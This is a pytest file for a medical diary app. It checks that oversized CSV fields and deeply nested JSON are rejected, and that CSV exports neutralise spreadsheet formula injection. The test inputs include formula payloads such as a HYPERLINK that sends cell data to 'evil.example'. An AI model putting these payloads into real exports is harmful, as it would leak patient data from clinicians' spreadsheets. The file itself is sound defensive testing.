"""Issue #19 (Medium): a diary CSV with an oversized field is bad input (422 / exit 2) on every
way in, and the clinician's CSV export cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import typer
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from ldncare.cli.followup_commands import register
from ldncare.core.diary import parse_entry
from ldncare.core.patient import Patient
from ldncare.errors import InvalidInput
from ldncare.store import repository
from ldncare.store.db import make_engine, migrate
from ldncare.store.diary_csv import MAX_FIELD_CHARS, diary_to_csv, parse_diary_csv
from tests.web.conftest import World
from tests.web.test_pages import login_page

TODAY = date(2026, 3, 2)
#: One note a character longer than Python's csv reader takes (131,072 by default).
HUGE_NOTE_CSV = f'day,pain_avg,notes\n2026-02-27,5,"{"x" * (MAX_FIELD_CHARS + 1)}"\n'


def _page_import(world: World, text: str) -> Any:
    """A clinician uploads ``csv`` on the patient page's diary import form."""
    token = login_page(world, "clin1")
    return world.client.post(
        f"/patients/{world.bert}/diary/import",
        data={"csrf_token": token},
        files={"file": ("diary.csv", text.encode(), "text/csv")},
        follow_redirects=False,
    )


def _cli_import(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> Result:
    """`ldncare diary import` of ``csv`` for a stored patient, in a store of its own."""
    url = f"sqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("LDNCARE_DATABASE_URL", url)
    engine = make_engine(url)
    migrate(engine)
    repository.add_patient(
        engine, Patient(id="pn-9", name="C. Test"), plan_contract=None, actor="test"
    )
    engine.dispose()
    file = tmp_path / "diary.csv"
    file.write_text(text, encoding="utf-8")
    app = typer.Typer()
    app.callback()(lambda: None)
    register(app)
    return CliRunner().invoke(app, ["diary", "import", "pn-9", str(file)])


def test_a_note_longer_than_the_csv_field_limit_is_refused_naming_the_row() -> None:
    with pytest.raises(InvalidInput, match=f"limit of {MAX_FIELD_CHARS} characters") as info:
        parse_diary_csv(HUGE_NOTE_CSV, today=TODAY)
    assert info.value.field == "row 2"


def test_an_oversized_header_field_is_refused_too() -> None:
    with pytest.raises(InvalidInput, match="longer than the limit") as info:
        parse_diary_csv(f'"{"d" * (MAX_FIELD_CHARS + 1)}"\n', today=TODAY)
    assert info.value.field == "row 1"


def test_clinician_api_import_of_a_huge_note_answers_422_and_writes_nothing(world: World) -> None:
    world.login("clin1")
    r = world.client.post(
        f"/api/patients/{world.bert}/diary/import",
        content=HUGE_NOTE_CSV.encode(),
        headers={"content-type": "text/csv"},
    )
    assert r.status_code == 422, r.text
    assert "131072" in r.text
    assert world.client.get(f"/api/patients/{world.bert}/diary").json() == []


def test_patient_importing_her_own_diary_with_a_huge_note_gets_422(world: World) -> None:
    world.login("anna")
    r = world.client.post(
        f"/api/patients/{world.anna}/diary/import",
        content=HUGE_NOTE_CSV.encode(),
        headers={"content-type": "text/csv"},
    )
    assert r.status_code == 422, r.text
    assert r.json()["detail"][0]["loc"] == ["body", "row 2"]
    assert world.client.get(f"/api/patients/{world.anna}/diary").json() == []


def test_clinician_page_import_of_a_huge_note_is_a_form_error_not_500(world: World) -> None:
    r = _page_import(world, HUGE_NOTE_CSV)
    assert r.status_code == 422, r.text[:300]
    assert "131072" in r.text


def test_cli_diary_import_of_a_huge_note_exits_2_with_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = _cli_import(tmp_path, monkeypatch, HUGE_NOTE_CSV)
    assert result.exit_code == 2, result.output
    assert "131072 characters" in result.output
    assert "Traceback" not in result.output


# --- formula injection in the export -------------------------------------------------------------


def _day(notes: str) -> str:
    entry = parse_entry({"day": "2026-02-27", "pain_avg": 5, "notes": notes}, today=TODAY)
    return diary_to_csv([entry]).splitlines()[1]


@pytest.mark.parametrize(
    "note",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"],
)
def test_a_patient_note_that_looks_like_a_formula_exports_as_text(note: str) -> None:
    exported_note = next(csv.reader(io.StringIO(_day(note))))[-1]
    assert exported_note == "'" + note


def test_clinician_csv_download_defuses_a_hyperlink_note(world: World) -> None:
    world.login("clin1")
    note = '=HYPERLINK("http://evil.example","see chart")'
    r = world.client.post(
        f"/api/patients/{world.anna}/diary",
        json={"day": "2026-02-27", "pain_avg": 6, "notes": note},
    )
    assert r.status_code in (200, 201), r.text
    exported = world.client.get(f"/api/patients/{world.anna}/diary.csv").text
    assert "'=HYPERLINK" in exported
    assert ",=HYPERLINK" not in exported and ',"=HYPERLINK' not in exported


_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_notes = st.text(
    alphabet=st.sampled_from(["=", "+", "-", "@", "'", "a", " ", "1", ",", '"']), max_size=12
).map(str.strip)


@settings(max_examples=200, deadline=None)
@given(note=_notes)
def test_no_exported_cell_starts_a_formula_and_notes_round_trip(note: str) -> None:
    entry = parse_entry({"day": "2026-02-27", "pain_avg": 5, "notes": note or None}, today=TODAY)
    text = diary_to_csv([entry])
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(_DANGEROUS), cell
    assert parse_diary_csv(text, today=TODAY) == [entry]


def test_worklist_csv_defuses_a_formula_in_a_patient_name_from_the_ehr() -> None:
    from ldncare.cli.ehr_commands import _hits_csv
    from ldncare.store.population import ScreenHit

    hit = ScreenHit(
        patient_id="p-1",
        name='=HYPERLINK("http://evil.example","Smith")',
        rule_id="r",
        severity="warning",
        message="m",
        citations=("c",),
        check="k",
        db_id=1,
    )
    row = next(csv.reader(io.StringIO(_hits_csv([hit]).splitlines()[1])))
    assert row[1] == "'" + hit.name
    assert row[0] == "p-1"


# --- deep JSON in the side_effects column (issue #19 item 6) -------------------------------------

#: A side_effects cell opening 1,500 JSON lists: past the nesting json_input.loads_strict reads.
DEEP_SIDE_EFFECTS_CSV = 'day,side_effects\n2026-02-27,"' + "[" * 1500 + '"\n'


def test_a_side_effects_cell_nested_1500_lists_deep_is_refused_naming_the_cell() -> None:
    with pytest.raises(InvalidInput, match="nested too deeply") as info:
        parse_diary_csv(DEEP_SIDE_EFFECTS_CSV, today=TODAY)
    assert info.value.field == "row 2.side_effects"


def test_clinician_api_import_of_deep_side_effects_answers_422_not_500(world: World) -> None:
    world.login("clin1")
    r = world.client.post(
        f"/api/patients/{world.bert}/diary/import",
        content=DEEP_SIDE_EFFECTS_CSV.encode(),
        headers={"content-type": "text/csv"},
    )
    assert r.status_code == 422, r.text[:300]
    assert "nested too deeply" in r.text
    assert world.client.get(f"/api/patients/{world.bert}/diary").json() == []


def test_patient_importing_deep_side_effects_gets_422(world: World) -> None:
    world.login("anna")
    r = world.client.post(
        f"/api/patients/{world.anna}/diary/import",
        content=DEEP_SIDE_EFFECTS_CSV.encode(),
        headers={"content-type": "text/csv"},
    )
    assert r.status_code == 422, r.text[:300]
    assert r.json()["detail"][0]["loc"] == ["body", "row 2", "side_effects"]


def test_clinician_page_import_of_deep_side_effects_is_a_form_error(world: World) -> None:
    r = _page_import(world, DEEP_SIDE_EFFECTS_CSV)
    assert r.status_code == 422, r.text[:300]
    assert "nested too deeply" in r.text


def test_cli_diary_import_of_deep_side_effects_exits_2_without_a_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = _cli_import(tmp_path, monkeypatch, DEEP_SIDE_EFFECTS_CSV)
    assert result.exit_code == 2, result.output
    assert "nested too deeply" in result.output
    assert "Traceback" not in result.output
